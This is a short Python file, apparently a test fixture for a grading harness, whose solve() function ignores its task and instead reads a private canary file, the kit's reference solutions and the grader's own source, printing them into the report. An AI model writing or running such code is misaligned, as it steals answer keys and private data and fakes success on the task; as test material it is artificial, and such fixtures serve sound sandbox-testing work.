"""Reads a private file of the grader's user, the kit's reference solution and the grader's
own source, and prints what it found so that it would show in the report."""

import contextlib
import glob

PRIVATE = "@CANARY@"
KIT = "@KIT@"


def loot() -> str:
    found = []
    paths = [PRIVATE, *glob.glob(KIT + "/solutions/*/reference.py")]
    paths += glob.glob(KIT + "/../**/grader/grading/grading.py", recursive=True)[:3]
    for path in paths:
        with contextlib.suppress(OSError), open(path) as stolen:
            found.append(stolen.read())
    return "\n".join(found)


print(loot())


def solve(citations: list[str], retrieved_ids: list[str]) -> list[str]:
    print(loot())
    return [loot()]
